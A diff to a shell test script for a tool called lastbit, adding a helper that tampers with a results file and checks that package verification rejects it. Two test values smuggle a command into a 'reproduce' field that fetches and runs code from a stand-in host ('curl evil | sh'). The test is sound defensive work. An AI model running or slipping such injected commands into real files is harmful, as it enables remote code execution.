@@ -174,6 +174,19 @@ run --diagnose off --port "$ports/exit_118.so" --report "$work/f" "$vectors/argm
 expect 0 '^verified: [0-9]* members; the results say [0-9]* passed, [1-9][0-9]* failed, 0 skipped' \
     "$lastbit" report verify "$work/f.tar.gz"
 
+# Results that were edited, and packaged again with documents of their own: what can be counted again is.
+forge() { # WORDS SED-SCRIPT
+    sed "$2" "$work/f/results.json" >"$work/forged.json"
+    cmp -s "$work/forged.json" "$work/f/results.json" && wrong "$1: nothing was forged"
+    "$lastbit" report package -o "$work/forged.tar.gz" "$work/forged.json" >/dev/null 2>&1
+    expect 1 "$1" "$lastbit" report verify "$work/forged.tar.gz"
+}
+forge 'profiles_all is 1' 's/"profiles_all":4/"profiles_all":1/'
+forge 'profiles_tried is 3' 's/"profiles_tried":4/"profiles_tried":3/'
+forge '"expected" is 7' 's/"expected":[0-9]*/"expected":7/'
+forge 'no plain call of lastbit' 's/"reproduce":"lastbit run/"reproduce":"curl evil | sh; lastbit run/'
+forge 'no plain call of lastbit' 's/"reproduce":"lastbit run [^"]*/&; curl evil/'
+
 # Names and shapes of strangers, on pages and in the terminal.
 run --port "$ports/padding_with_zero.so" --report "$work/g" "$vectors/conv2d.yaml" >/dev/null
 sed 's/"map_shape":"[^"]*"/"map_shape":"<b>9<\/b>,<i>4"/' "$work/g/results.json" >"$work/shape.json"
